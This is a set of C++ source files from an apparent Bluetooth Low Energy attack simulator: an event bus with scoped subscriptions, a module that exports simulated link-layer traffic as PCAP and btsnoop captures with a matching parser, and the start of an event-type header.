        for (EventSink* sink : sinks_) {
            prof::Span span(sink->prof_site());
            sink->on_event(event);
        }
        for (const Subscriber& s : subscribers_) s.fn(event);
    }

    std::vector<EventSink*> sinks_;
    std::vector<Subscriber> subscribers_;
    Token next_token_ = 1;
};

/// RAII function subscription: unsubscribes on destruction.  The bus must
/// outlive the subscription (or be destroyed *with* it, as when a trial's
/// world and its sinks share a scope and the bus dies first is avoided by
/// declaring the subscription after the world).
class ScopedSubscription {
public:
    ScopedSubscription() = default;
    ScopedSubscription(EventBus& bus, std::function<void(const Event&)> fn)
        : bus_(&bus), token_(bus.subscribe(std::move(fn))) {}
    ~ScopedSubscription() { reset(); }

    ScopedSubscription(ScopedSubscription&& other) noexcept
        : bus_(std::exchange(other.bus_, nullptr)),
          token_(std::exchange(other.token_, EventBus::kInvalidToken)) {}
    ScopedSubscription& operator=(ScopedSubscription&& other) noexcept {
        if (this != &other) {
            reset();
            bus_ = std::exchange(other.bus_, nullptr);
            token_ = std::exchange(other.token_, EventBus::kInvalidToken);
        }
        return *this;
    }

    void reset() noexcept {
        if (bus_ != nullptr && token_ != EventBus::kInvalidToken) bus_->unsubscribe(token_);
        bus_ = nullptr;
        token_ = EventBus::kInvalidToken;
    }

    [[nodiscard]] bool attached() const noexcept { return bus_ != nullptr; }

private:
    EventBus* bus_ = nullptr;
    EventBus::Token token_ = EventBus::kInvalidToken;
};

}  // namespace ble::obs
