#include "obs/capture/capture.hpp"

#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "common/hex.hpp"
#include "common/json.hpp"

namespace ble::obs::capture {

namespace {

// PCAP container constants (nanosecond-resolution magic; we write the file
// little-endian, the host byte order of every platform we run on).
constexpr std::uint32_t kPcapMagicNs = 0xA1B23C4D;
constexpr std::uint16_t kPcapVersionMajor = 2;
constexpr std::uint16_t kPcapVersionMinor = 4;
constexpr std::uint32_t kPcapSnaplen = 0x40000;
/// DLT_BLUETOOTH_LE_LL_WITH_PHDR.
constexpr std::uint32_t kLinktypeBleLlWithPhdr = 256;

// btsnoop constants (big-endian container).
constexpr char kBtsnoopMagic[8] = {'b', 't', 's', 'n', 'o', 'o', 'p', '\0'};
constexpr std::uint32_t kBtsnoopVersion = 1;
/// Microseconds between the btsnoop epoch (0 AD) and the Unix epoch; sim-time
/// zero maps to the Unix epoch so timestamps are sane in viewers.
constexpr std::int64_t kBtsnoopEpochDeltaUs = 0x00E03AB44A676000LL;

// LE_LL_WITH_PHDR flag bits (the subset we produce).
constexpr std::uint16_t kFlagDewhitened = 0x0001;
constexpr std::uint16_t kFlagSignalValid = 0x0002;
constexpr std::uint16_t kFlagNoiseValid = 0x0004;
constexpr std::uint16_t kFlagRefAaValid = 0x0010;
constexpr std::uint16_t kFlagOffensesValid = 0x0020;
constexpr std::uint16_t kFlagCrcChecked = 0x0400;
constexpr std::uint16_t kFlagCrcValid = 0x0800;

constexpr std::size_t kPhdrSize = 10;

/// Device-vantage pending horizon: a parked frame whose verdict never arrived
/// (receiver below sensitivity, or retuned away) is dropped once the stream
/// has moved this far past its start.  Far beyond any frame airtime (~2 ms),
/// and a pure function of event times, so pruning is deterministic.
constexpr Duration kPendingHorizonNs = 100'000'000;  // 100 ms

void put_u16le(std::string& out, std::uint16_t v) {
    out.push_back(static_cast<char>(v & 0xff));
    out.push_back(static_cast<char>((v >> 8) & 0xff));
}

void put_u32le(std::string& out, std::uint32_t v) {
    out.push_back(static_cast<char>(v & 0xff));
    out.push_back(static_cast<char>((v >> 8) & 0xff));
    out.push_back(static_cast<char>((v >> 16) & 0xff));
    out.push_back(static_cast<char>((v >> 24) & 0xff));
}

void put_u32be(std::string& out, std::uint32_t v) {
    out.push_back(static_cast<char>((v >> 24) & 0xff));
    out.push_back(static_cast<char>((v >> 16) & 0xff));
    out.push_back(static_cast<char>((v >> 8) & 0xff));
    out.push_back(static_cast<char>(v & 0xff));
}

void put_u64be(std::string& out, std::uint64_t v) {
    put_u32be(out, static_cast<std::uint32_t>(v >> 32));
    put_u32be(out, static_cast<std::uint32_t>(v & 0xffffffffu));
}

struct ByteCursor {
    std::string_view data;
    std::size_t pos = 0;
    bool failed = false;

    [[nodiscard]] std::size_t remaining() const { return data.size() - pos; }
    std::uint8_t u8() {
        if (remaining() < 1) {
            failed = true;
            return 0;
        }
        return static_cast<std::uint8_t>(data[pos++]);
    }
    std::uint16_t u16le() {
        const std::uint16_t lo = u8();
        return static_cast<std::uint16_t>(lo | (static_cast<std::uint16_t>(u8()) << 8));
    }
    std::uint32_t u32le() {
        const std::uint32_t lo = u16le();
        return lo | (static_cast<std::uint32_t>(u16le()) << 16);
    }
    std::uint32_t u32be() {
        const std::uint32_t hi = u8();
        const std::uint32_t b1 = u8();
        const std::uint32_t b2 = u8();
        const std::uint32_t b3 = u8();
        return (hi << 24) | (b1 << 16) | (b2 << 8) | b3;
    }
    std::uint64_t u64be() {
        const std::uint64_t hi = u32be();
        return (hi << 32) | u32be();
    }
};

/// Parses the 10-byte pseudo-header + frame body of one packet payload.
bool parse_phdr_packet(std::string_view payload, CaptureRecord& record,
                       std::string* error) {
    if (payload.size() < kPhdrSize) {
        *error = "packet shorter than the pseudo-header";
        return false;
    }
    ByteCursor c{payload};
    const std::uint8_t rf = c.u8();
    record.channel = logical_channel_from_rf(rf);
    record.signal_dbm = static_cast<std::int8_t>(c.u8());
    record.noise_dbm = static_cast<std::int8_t>(c.u8());
    record.aa_offenses = c.u8();
    (void)c.u32le();  // reference AA: redundant with the frame's own bytes
    const std::uint16_t flags = c.u16le();
    record.signal_valid = (flags & kFlagSignalValid) != 0;
    record.noise_valid = (flags & kFlagNoiseValid) != 0;
    record.offenses_valid = (flags & kFlagOffensesValid) != 0;
    record.crc_checked = (flags & kFlagCrcChecked) != 0;
    record.crc_valid = (flags & kFlagCrcValid) != 0;
    const auto* body = reinterpret_cast<const std::uint8_t*>(payload.data());
    record.bytes.assign(body + kPhdrSize, body + payload.size());
    return true;
}

RxVerdict verdict_from_name(std::string_view name, bool* ok) {
    *ok = true;
    if (name == "delivered") return RxVerdict::kDelivered;
    if (name == "corrupted") return RxVerdict::kDeliveredCorrupted;
    if (name == "lost-sync") return RxVerdict::kLostSync;
    *ok = false;
    return RxVerdict::kLostSync;
}

}  // namespace

const char* capture_format_name(CaptureFormat format) noexcept {
    switch (format) {
        case CaptureFormat::kPcap: return "pcap";
        case CaptureFormat::kBtsnoop: return "btsnoop";
    }
    return "?";
}

const char* capture_format_extension(CaptureFormat format) noexcept {
    switch (format) {
        case CaptureFormat::kPcap: return ".pcap";
        case CaptureFormat::kBtsnoop: return ".btsnoop";
    }
    return "";
}

const char* vantage_kind_name(VantageKind kind) noexcept {
    switch (kind) {
        case VantageKind::kOmniscient: return "omniscient";
        case VantageKind::kDevice: return "device";
    }
    return "?";
}

std::uint8_t rf_channel_from_logical(std::uint8_t channel) noexcept {
    // Spec Vol 6 Part B §1.4.1: advertising channels 37/38/39 sit at RF
    // indexes 0/12/39; data channels fill the gaps in order.
    if (channel == 37) return 0;
    if (channel == 38) return 12;
    if (channel == 39) return 39;
    if (channel <= 10) return static_cast<std::uint8_t>(channel + 1);
    if (channel <= 36) return static_cast<std::uint8_t>(channel + 2);
    return channel;  // out of BLE range: pass through
}

std::uint8_t logical_channel_from_rf(std::uint8_t rf) noexcept {
    if (rf == 0) return 37;
    if (rf == 12) return 38;
    if (rf == 39) return 39;
    if (rf <= 11) return static_cast<std::uint8_t>(rf - 1);
    if (rf <= 38) return static_cast<std::uint8_t>(rf - 2);
    return rf;
}

std::int8_t quantize_dbm(double dbm) noexcept {
    // A capture stream repeats a handful of power figures (each device's TX
    // power, the world noise floor), and the snprintf below dominates the
    // capture sink's per-frame cost — a tiny exact-bits memo of this pure
    // function removes it from the hot path (BM_PcapSinkFrame).
    struct Memo {
        std::uint64_t bits = 0;
        std::int8_t value = 0;
        bool used = false;
    };
    thread_local Memo memo[4] = {};
    thread_local unsigned next_slot = 0;
    std::uint64_t bits = 0;
    static_assert(sizeof(bits) == sizeof(dbm));
    std::memcpy(&bits, &dbm, sizeof(bits));
    for (const Memo& entry : memo) {
        if (entry.used && entry.bits == bits) return entry.value;
    }
    // Round-trip through the exact "%.1f" text form the JSONL trace stores,
    // so live events and re-parsed trace lines quantize identically (a raw
    // lround() would disagree near x.x5 boundaries after the 1-decimal
    // rounding the trace applies).
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.1f", dbm);
    const double quantized = std::strtod(buf, nullptr);
    long rounded = std::lround(quantized);
    if (rounded < -128) rounded = -128;
    if (rounded > 127) rounded = 127;
    const auto value = static_cast<std::int8_t>(rounded);
    memo[next_slot] = {bits, value, true};
    next_slot = (next_slot + 1) % 4;
    return value;
}

void append_phdr(std::string& out, const CaptureRecord& record) {
    out.push_back(static_cast<char>(rf_channel_from_logical(record.channel)));
    out.push_back(static_cast<char>(record.signal_dbm));
    out.push_back(static_cast<char>(record.noise_dbm));
    out.push_back(static_cast<char>(record.aa_offenses));
    std::uint32_t ref_aa = 0;
    bool ref_aa_valid = false;
    if (record.bytes.size() >= 4) {
        ref_aa = static_cast<std::uint32_t>(record.bytes[0]) |
                 (static_cast<std::uint32_t>(record.bytes[1]) << 8) |
                 (static_cast<std::uint32_t>(record.bytes[2]) << 16) |
                 (static_cast<std::uint32_t>(record.bytes[3]) << 24);
        ref_aa_valid = true;
    }
    put_u32le(out, ref_aa);
    std::uint16_t flags = kFlagDewhitened;  // our frames are always unwhitened
    if (record.signal_valid) flags |= kFlagSignalValid;
    if (record.noise_valid) flags |= kFlagNoiseValid;
    if (ref_aa_valid) flags |= kFlagRefAaValid;
    if (record.offenses_valid) flags |= kFlagOffensesValid;
    if (record.crc_checked) flags |= kFlagCrcChecked;
    if (record.crc_valid) flags |= kFlagCrcValid;
    put_u16le(out, flags);
}

std::string pcap_bytes(const std::vector<CaptureRecord>& records) {
    std::string out;
    out.reserve(24 + records.size() * 64);
    put_u32le(out, kPcapMagicNs);
    put_u16le(out, kPcapVersionMajor);
    put_u16le(out, kPcapVersionMinor);
    put_u32le(out, 0);  // thiszone
    put_u32le(out, 0);  // sigfigs
    put_u32le(out, kPcapSnaplen);
    put_u32le(out, kLinktypeBleLlWithPhdr);
    for (const CaptureRecord& record : records) {
        const auto t = static_cast<std::uint64_t>(record.time < 0 ? 0 : record.time);
        put_u32le(out, static_cast<std::uint32_t>(t / 1'000'000'000ull));
        put_u32le(out, static_cast<std::uint32_t>(t % 1'000'000'000ull));
        const auto len = static_cast<std::uint32_t>(kPhdrSize + record.bytes.size());
        put_u32le(out, len);  // incl_len
        put_u32le(out, len);  // orig_len
        append_phdr(out, record);
        out.append(reinterpret_cast<const char*>(record.bytes.data()), record.bytes.size());
    }
    return out;
}

std::string btsnoop_bytes(const std::vector<CaptureRecord>& records) {
    std::string out;
    out.reserve(16 + records.size() * 72);
    out.append(kBtsnoopMagic, sizeof(kBtsnoopMagic));
    put_u32be(out, kBtsnoopVersion);
    put_u32be(out, kLinktypeBleLlWithPhdr);
    for (const CaptureRecord& record : records) {
        const auto len = static_cast<std::uint32_t>(kPhdrSize + record.bytes.size());
        put_u32be(out, len);  // orig_len
        put_u32be(out, len);  // incl_len
        put_u32be(out, 0);    // flags (direction/type: not meaningful at LL)
        put_u32be(out, 0);    // cumulative drops
        const std::int64_t us = (record.time < 0 ? 0 : record.time) / 1000;
        put_u64be(out, static_cast<std::uint64_t>(kBtsnoopEpochDeltaUs + us));
        append_phdr(out, record);
        out.append(reinterpret_cast<const char*>(record.bytes.data()), record.bytes.size());
    }
    return out;
}

std::string capture_bytes(const std::vector<CaptureRecord>& records, CaptureFormat format) {
    switch (format) {
        case CaptureFormat::kPcap: return pcap_bytes(records);
        case CaptureFormat::kBtsnoop: return btsnoop_bytes(records);
    }
    return {};
}

ParsedCapture parse_pcap(std::string_view bytes) {
    ParsedCapture parsed;
    parsed.format = CaptureFormat::kPcap;
    ByteCursor c{bytes};
    if (c.remaining() < 24) {
        parsed.error = "truncated pcap header";
        return parsed;
    }
    if (c.u32le() != kPcapMagicNs) {
        parsed.error = "not a nanosecond-resolution pcap (bad magic)";
        return parsed;
    }
    const std::uint16_t major = c.u16le();
    const std::uint16_t minor = c.u16le();
    if (major != kPcapVersionMajor || minor != kPcapVersionMinor) {
        parsed.error = "unsupported pcap version";
        return parsed;
    }
    (void)c.u32le();  // thiszone
    (void)c.u32le();  // sigfigs
    (void)c.u32le();  // snaplen
    if (c.u32le() != kLinktypeBleLlWithPhdr) {
        parsed.error = "unexpected linktype (want 256, LE_LL_WITH_PHDR)";
        return parsed;
    }
    while (c.remaining() > 0) {
        if (c.remaining() < 16) {
            parsed.error = "truncated pcap record header";
            return parsed;
        }
        const std::uint64_t sec = c.u32le();
        const std::uint64_t nsec = c.u32le();
        const std::uint32_t incl = c.u32le();
        const std::uint32_t orig = c.u32le();
        if (incl != orig) {
            parsed.error = "truncated packet (incl_len != orig_len)";
            return parsed;
        }
        if (c.remaining() < incl) {
            parsed.error = "truncated pcap packet body";
            return parsed;
        }
        CaptureRecord record;
        record.time = static_cast<TimePoint>(sec * 1'000'000'000ull + nsec);
        if (!parse_phdr_packet(bytes.substr(c.pos, incl), record, &parsed.error)) {
            return parsed;
        }
        c.pos += incl;
        parsed.records.push_back(std::move(record));
    }
    parsed.ok = true;
    return parsed;
}

ParsedCapture parse_btsnoop(std::string_view bytes) {
    ParsedCapture parsed;
    parsed.format = CaptureFormat::kBtsnoop;
    ByteCursor c{bytes};
    if (c.remaining() < 16 ||
        std::memcmp(bytes.data(), kBtsnoopMagic, sizeof(kBtsnoopMagic)) != 0) {
        parsed.error = "not a btsnoop file (bad magic)";
        return parsed;
    }
    c.pos = sizeof(kBtsnoopMagic);
    if (c.u32be() != kBtsnoopVersion) {
        parsed.error = "unsupported btsnoop version";
        return parsed;
    }
    if (c.u32be() != kLinktypeBleLlWithPhdr) {
        parsed.error = "unexpected btsnoop datalink (want 256, LE_LL_WITH_PHDR)";
        return parsed;
    }
    while (c.remaining() > 0) {
        if (c.remaining() < 24) {
            parsed.error = "truncated btsnoop record header";
            return parsed;
        }
        const std::uint32_t orig = c.u32be();
        const std::uint32_t incl = c.u32be();
        (void)c.u32be();  // flags
        (void)c.u32be();  // cumulative drops
        const auto ts = static_cast<std::int64_t>(c.u64be());
        if (incl != orig) {
            parsed.error = "truncated packet (incl_len != orig_len)";
            return parsed;
        }
        if (c.remaining() < incl) {
            parsed.error = "truncated btsnoop packet body";
            return parsed;
        }
        CaptureRecord record;
        // µs resolution: sub-µs sim-time is truncated on write, so the
        // re-serialized file is still byte-identical.
        record.time = static_cast<TimePoint>((ts - kBtsnoopEpochDeltaUs) * 1000);
        if (!parse_phdr_packet(bytes.substr(c.pos, incl), record, &parsed.error)) {
            return parsed;
        }
        c.pos += incl;
        parsed.records.push_back(std::move(record));
    }
    parsed.ok = true;
    return parsed;
}

ParsedCapture parse_capture(std::string_view bytes) {
    if (bytes.size() >= sizeof(kBtsnoopMagic) &&
        std::memcmp(bytes.data(), kBtsnoopMagic, sizeof(kBtsnoopMagic)) == 0) {
        return parse_btsnoop(bytes);
    }
    return parse_pcap(bytes);
}

CaptureBuilder::CaptureBuilder(VantagePoint vantage) : vantage_(std::move(vantage)) {}

void CaptureBuilder::on_tx(TimePoint time, std::uint64_t tx_id, std::uint8_t channel,
                           double tx_power_dbm, BytesView bytes) {
    switch (vantage_.kind) {
        case VantageKind::kOmniscient: {
            CaptureRecord record;
            record.time = time;
            record.channel = channel;
            // God view: the only power figure that exists without a receiver
            // is the sender's TX power; no CRC judgement either.
            record.signal_dbm = quantize_dbm(tx_power_dbm);
            record.signal_valid = true;
            record.bytes.assign(bytes.begin(), bytes.end());
            records_.push_back(std::move(record));
            return;
        }
        case VantageKind::kDevice: {
            // Park the frame until the named receiver's verdict arrives
            // (RxDecision fires at the frame's end).  Prune stale entries
            // first: pending_ is tx_id-ordered and tx ids are monotonic in
            // start time, so popping from the front is exact.
            while (!pending_.empty() &&
                   pending_.begin()->second.time + kPendingHorizonNs < time) {
                pending_.erase(pending_.begin());
            }
            PendingTx tx;
            tx.time = time;
            tx.channel = channel;
            tx.tx_power_dbm = tx_power_dbm;
            tx.bytes.assign(bytes.begin(), bytes.end());
            pending_.emplace(tx_id, std::move(tx));
            return;
        }
    }
}

void CaptureBuilder::on_rx(std::uint64_t tx_id, std::string_view receiver,
                           RxVerdict verdict, double rssi_dbm, double noise_dbm,
                           int sync_bit_errors) {
    if (vantage_.kind != VantageKind::kDevice) return;
    if (receiver != vantage_.device) return;
    const auto it = pending_.find(tx_id);
    if (it == pending_.end()) return;
    const PendingTx& tx = it->second;
    // The verdict is this receiver's final word on the frame.
    switch (verdict) {
        case RxVerdict::kLostSync:
            // The correlator never matched — a real sniffer logs nothing.
            break;
        case RxVerdict::kDelivered:
        case RxVerdict::kDeliveredCorrupted: {
            CaptureRecord record;
            record.time = tx.time;
            record.channel = tx.channel;
            record.signal_dbm = quantize_dbm(rssi_dbm);
            record.noise_dbm = quantize_dbm(noise_dbm);
            record.signal_valid = true;
            record.noise_valid = true;
            const int offenses = sync_bit_errors < 0 ? 0 : sync_bit_errors;
            record.aa_offenses = static_cast<std::uint8_t>(offenses > 255 ? 255 : offenses);
            record.offenses_valid = true;
            record.crc_checked = true;
            record.crc_valid = verdict == RxVerdict::kDelivered;
            // The parked bytes are the sender's: corruption is reflected in
            // the CRC flags, not by mutating the payload (the medium does not
            // publish the corrupted image).
            record.bytes = tx.bytes;
            records_.push_back(std::move(record));
            break;
        }
    }
    pending_.erase(it);
}

void CaptureSink::on_event(const Event& event) {
    if (const auto* tx = std::get_if<TxStart>(&event)) {
        builder_.on_tx(tx->time, tx->tx_id, tx->channel, tx->tx_power_dbm, tx->bytes);
    } else if (const auto* rx = std::get_if<RxDecision>(&event)) {
        builder_.on_rx(rx->tx_id, rx->receiver, rx->verdict, rx->rssi_dbm, rx->noise_dbm,
                       rx->sync_bit_errors);
    }
}

std::vector<CaptureRecord> records_from_trace_lines(const std::vector<std::string>& lines,
                                                    const VantagePoint& vantage,
                                                    std::string* error) {
    CaptureBuilder builder(vantage);
    for (std::size_t i = 0; i < lines.size(); ++i) {
        const std::string& line = lines[i];
        if (line.empty()) continue;
        const json::ParseResult parsed = json::parse(line);
        if (!parsed.ok || !parsed.value.is_object()) {
            if (error != nullptr) {
                *error = "line " + std::to_string(i + 1) + ": " +
                         (parsed.ok ? "not a JSON object" : parsed.error);
            }
            return {};
        }
        const json::Value& v = parsed.value;
        const std::string kind = v.string_at("e");
        if (kind == "tx") {
            const std::optional<Bytes> bytes = from_hex(v.string_at("hex"));
            if (!bytes) {
                if (error != nullptr) {
                    *error = "line " + std::to_string(i + 1) + ": bad tx hex";
                }
                return {};
            }
            builder.on_tx(v.i64("t_ns"), v.u64("tx_id"),
                          static_cast<std::uint8_t>(v.u64("ch")),
                          v.number("tx_dbm", 0.0), *bytes);
        } else if (kind == "rx") {
            bool verdict_ok = false;
            const RxVerdict verdict = verdict_from_name(v.string_at("verdict"), &verdict_ok);
            if (!verdict_ok) {
                if (error != nullptr) {
                    *error = "line " + std::to_string(i + 1) + ": unknown rx verdict \"" +
                             v.string_at("verdict") + "\"";
                }
                return {};
            }
            builder.on_rx(v.u64("tx_id"), v.string_at("receiver"), verdict,
                          v.number("rssi_dbm", -127.0), v.number("noise_dbm", -100.0),
                          static_cast<int>(v.i64("sync_bit_errors")));
        }
        // Every other event kind (and the meta header, which has no "e") is
        // irrelevant to captures.
    }
    return builder.records();
}

}  // namespace ble::obs::capture
