// Link-layer capture subsystem: deterministic PCAP / btsnoop export.
//
// The paper validates every attack by sniffing the live connection and
// opening the capture in standard analysis tooling; this module renders the
// event stream (TxStart/RxDecision on the per-world EventBus) into the same
// industry formats so a simulated hijack is inspectable in Wireshark.
//
// Formats (DESIGN.md §14):
//  * PCAP, nanosecond magic 0xA1B23C4D, linktype 256
//    (DLT_BLUETOOTH_LE_LL_WITH_PHDR): each packet is a 10-byte pseudo-header
//    followed by the on-air frame (AA + PDU + CRC, unwhitened).
//  * btsnoop: the classic HCI-log framing (big-endian, µs timestamps against
//    the 0 AD epoch), carrying the identical phdr+frame payload with the
//    datalink field set to the same linktype value.
//
// Vantage points: a capture is either *omniscient* (every TxStart on the
// medium — the god view) or a *device* capture (only frames that device's
// RxDecision says its radio could sync onto — the partial view a real
// nRF-sniffer has).  Both are pure functions of the event stream, which is a
// pure function of (config, seed): capture bytes are bit-identical across
// reruns and across BENCH_JOBS worker counts.
//
// Layering: ble_obs sits below phy/link, so this code treats frames as
// opaque bytes and derives every pseudo-header field from event metadata
// (verdicts, RSSI, sync-bit errors) — never by re-parsing the PDU.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "obs/bus.hpp"

namespace ble::obs::capture {

/// On-disk capture container.  Wire-adjacent (file magic selects the
/// parser), so injectable_lint rule W1 holds switches over it exhaustive.
enum class CaptureFormat : std::uint8_t {
    kPcap = 0,     ///< pcap, ns resolution, linktype 256
    kBtsnoop = 1,  ///< btsnoop v1, µs resolution, same payload layout
};

[[nodiscard]] const char* capture_format_name(CaptureFormat format) noexcept;
/// ".pcap" / ".btsnoop" (no gzip suffix).
[[nodiscard]] const char* capture_format_extension(CaptureFormat format) noexcept;

/// Who the capture pretends to be.  Also W1-monitored: the kind decides how
/// records are built from the stream, so a missed case is a silent data bug.
enum class VantageKind : std::uint8_t {
    kOmniscient = 0,  ///< every TxStart on the medium (god view)
    kDevice = 1,      ///< only frames one named device's radio synced onto
};

[[nodiscard]] const char* vantage_kind_name(VantageKind kind) noexcept;

struct VantagePoint {
    VantageKind kind = VantageKind::kOmniscient;
    std::string device;  ///< receiver name; meaningful for kDevice only
};

/// One captured frame: everything the LE_LL_WITH_PHDR pseudo-header carries
/// plus the on-air bytes.  `time` is sim-time (ns) — the frame's on-air
/// *start*, for both vantages, so the same frame timestamps identically in an
/// omniscient and a sniffer capture.
struct CaptureRecord {
    TimePoint time = 0;
    std::uint8_t channel = 0;       ///< logical BLE channel (0-39)
    std::int8_t signal_dbm = 0;     ///< quantized; see quantize_dbm()
    std::int8_t noise_dbm = 0;
    std::uint8_t aa_offenses = 0;   ///< sync-word bit errors at the receiver
    bool signal_valid = false;
    bool noise_valid = false;
    bool offenses_valid = false;
    bool crc_checked = false;       ///< a receiver judged the CRC
    bool crc_valid = false;         ///< meaningful iff crc_checked
    Bytes bytes;                    ///< AA + PDU + CRC, unwhitened

    bool operator==(const CaptureRecord&) const = default;
};

/// Logical BLE channel (advertising 37-39, data 0-36) -> RF channel 0-39,
/// the numbering the pseudo-header wants.
[[nodiscard]] std::uint8_t rf_channel_from_logical(std::uint8_t channel) noexcept;
/// Inverse mapping (RF 0-39 -> logical); out-of-range values pass through.
[[nodiscard]] std::uint8_t logical_channel_from_rf(std::uint8_t rf) noexcept;

/// Quantizes a dBm double to the pseudo-header's int8.  Goes through the
/// JSONL "%.1f" text form first, so a value rendered to a trace file and
/// parsed back quantizes to the *identical* byte the live sink wrote —
/// the offline exporter's bit-identity depends on this.
[[nodiscard]] std::int8_t quantize_dbm(double dbm) noexcept;

/// The 10-byte LE_LL_WITH_PHDR pseudo-header for one record (appended to
/// `out`).  The reference access address is the frame's own AA.
void append_phdr(std::string& out, const CaptureRecord& record);

/// Serializes records into a complete capture file image.
[[nodiscard]] std::string pcap_bytes(const std::vector<CaptureRecord>& records);
[[nodiscard]] std::string btsnoop_bytes(const std::vector<CaptureRecord>& records);
[[nodiscard]] std::string capture_bytes(const std::vector<CaptureRecord>& records,
                                        CaptureFormat format);

/// In-repo reader: parses a capture file image back into records (used by
/// tests and `trace_replay --pcap-diff` for byte-level round-trips; not a
/// general pcap reader — it accepts exactly what the writers emit).
struct ParsedCapture {
    bool ok = false;
    std::string error;
    CaptureFormat format = CaptureFormat::kPcap;
    std::vector<CaptureRecord> records;
};

[[nodiscard]] ParsedCapture parse_pcap(std::string_view bytes);
[[nodiscard]] ParsedCapture parse_btsnoop(std::string_view bytes);
/// Detects the format by magic and dispatches.
[[nodiscard]] ParsedCapture parse_capture(std::string_view bytes);

/// The vantage state machine, shared verbatim by the live CaptureSink and the
/// offline JSONL renderer so both produce the identical record sequence.
///
/// Omniscient: every on_tx() appends a record (signal = sender TX power, CRC
/// unchecked — nobody judged it).  Device: on_tx() parks the frame; the named
/// receiver's on_rx() verdict then decides — kLostSync drops the frame (a
/// real sniffer's correlator never matched, it logs nothing), anything else
/// appends a record with the receiver's RSSI/noise/sync-error view and CRC
/// flags from the verdict.  Parked frames no receiver ever judged are pruned
/// by sim-time horizon, so memory stays bounded and the output is a pure
/// function of the stream.
class CaptureBuilder {
public:
    explicit CaptureBuilder(VantagePoint vantage);

    void on_tx(TimePoint time, std::uint64_t tx_id, std::uint8_t channel,
               double tx_power_dbm, BytesView bytes);
    void on_rx(std::uint64_t tx_id, std::string_view receiver, RxVerdict verdict,
               double rssi_dbm, double noise_dbm, int sync_bit_errors);

    [[nodiscard]] const VantagePoint& vantage() const noexcept { return vantage_; }
    [[nodiscard]] const std::vector<CaptureRecord>& records() const noexcept {
        return records_;
    }
    [[nodiscard]] std::string bytes(CaptureFormat format) const {
        return capture_bytes(records_, format);
    }

private:
    struct PendingTx {
        TimePoint time = 0;
        std::uint8_t channel = 0;
        double tx_power_dbm = 0.0;
        Bytes bytes;
    };

    VantagePoint vantage_;
    std::vector<CaptureRecord> records_;
    std::map<std::uint64_t, PendingTx> pending_;  ///< device vantage only
};

/// EventBus sink feeding a CaptureBuilder from live TxStart/RxDecision
/// events.  Attach one per trial like the trace sinks.
class CaptureSink : public EventSink {
public:
    explicit CaptureSink(VantagePoint vantage = {}) : builder_(std::move(vantage)) {}

    void on_event(const Event& event) override;
    [[nodiscard]] std::string_view prof_name() const noexcept override {
        return "obs.sink.capture";
    }

    [[nodiscard]] const CaptureBuilder& builder() const noexcept { return builder_; }
    [[nodiscard]] const std::vector<CaptureRecord>& records() const noexcept {
        return builder_.records();
    }
    [[nodiscard]] std::string pcap_bytes() const { return builder_.bytes(CaptureFormat::kPcap); }
    [[nodiscard]] std::string btsnoop_bytes() const {
        return builder_.bytes(CaptureFormat::kBtsnoop);
    }

private:
    CaptureBuilder builder_;
};

/// Offline renderer: replays recorded JSONL trace lines (the
/// INJECTABLE_TRACE_DIR artifact format; the meta header line is skipped)
/// through a CaptureBuilder.  Produces the identical records a live sink at
/// the same vantage produced, because the tx/rx lines carry every field the
/// builder consumes ("tx_dbm"/"noise_dbm" included) at the same quantization.
/// On malformed input returns an empty vector and sets *error.
[[nodiscard]] std::vector<CaptureRecord> records_from_trace_lines(
    const std::vector<std::string>& lines, const VantagePoint& vantage,
    std::string* error = nullptr);

}  // namespace ble::obs::capture
