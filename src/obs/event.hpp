// The observation layer's event taxonomy.
//
// The paper's evaluation (§VII, Fig. 9) reasons entirely from *observed
// events*: injection attempts, capture outcomes, window-widening misses, IDS
// alerts.  Every emitting layer (sim medium, link connections, the attack
// harness, the IDS) publishes these structured events on the per-world
// obs::EventBus instead of through per-class observer callbacks, so one
// subscriber — a counter sink, the human-readable packet trace, a JSONL trace
// writer — sees the whole story of a trial in one stream.
//
// Events are plain structs over ble_common types only.  String and byte
// fields are *views* into the emitter's storage: they are valid for the
// duration of the dispatch and must be copied by sinks that buffer.
#pragma once

#include <cstdint>
#include <string_view>
#include <variant>

#include "common/bytes.hpp"
#include "common/time.hpp"

namespace ble::sim {
class RadioDevice;
struct AirFrame;
}  // namespace ble::sim

namespace injectable {
struct AttemptReport;
}  // namespace injectable

namespace ble::obs {

/// A transmission started on the medium (one per over-the-air frame).
struct TxStart {
    TimePoint time = 0;
    std::uint64_t tx_id = 0;  ///< the medium's transmission id
    std::uint8_t channel = 0;
    std::string_view sender;  ///< device name (view; valid during dispatch)
    BytesView bytes;          ///< AA + PDU + CRC, unwhitened
    Duration duration = 0;    ///< airtime including the preamble
    double tx_power_dbm = 0.0;  ///< sender's transmit power (capture phdr signal)
    /// Emitter-side handles for legacy shims (e.g. RadioMedium's TxObserver);
    /// valid only during dispatch.
    const sim::RadioDevice* sender_device = nullptr;
    const sim::AirFrame* frame = nullptr;
};

/// What the medium decided for one (transmission, locked receiver) pair —
/// the capture model's verdict.
enum class RxVerdict : std::uint8_t {
    kDelivered,           ///< frame handed to the receiver intact
    kDeliveredCorrupted,  ///< handed over with corrupted bytes (CRC will fail)
    kLostSync,            ///< sync word corrupted beyond tolerance: silently lost
};

[[nodiscard]] const char* rx_verdict_name(RxVerdict verdict) noexcept;

struct RxDecision {
    TimePoint time = 0;
    std::uint64_t tx_id = 0;
    std::uint8_t channel = 0;
    std::string_view receiver;
    RxVerdict verdict = RxVerdict::kDelivered;
    double rssi_dbm = -127.0;
    double noise_dbm = -100.0;  ///< medium noise floor at this receiver
    int corrupted_bytes = 0;
    int sync_bit_errors = 0;
};

/// Link-layer connection lifecycle, as seen by one end.
struct ConnEvent {
    enum class Kind : std::uint8_t {
        kOpened,       ///< connection armed (start / resume)
        kEventClosed,  ///< one connection event finished (diagnostics attached)
        kClosed,       ///< connection ended (reason attached)
    };
    Kind kind = Kind::kOpened;
    TimePoint time = 0;
    std::string_view device;
    std::uint8_t role = 0;  ///< 0 = master, 1 = slave
    std::uint16_t event_counter = 0;
    std::uint8_t channel = 0;
    // kEventClosed diagnostics (ConnectionEventReport fields).
    bool anchor_observed = false;
    int pdus_rx = 0;
    int pdus_tx = 0;
    int crc_errors = 0;
    /// kClosed: disconnect reason name.
    std::string_view reason;
};

/// A slave opened (or timed out) its widened receive window — the Eq. 4/5
/// mechanism the injection races against.
struct WindowWiden {
    TimePoint time = 0;
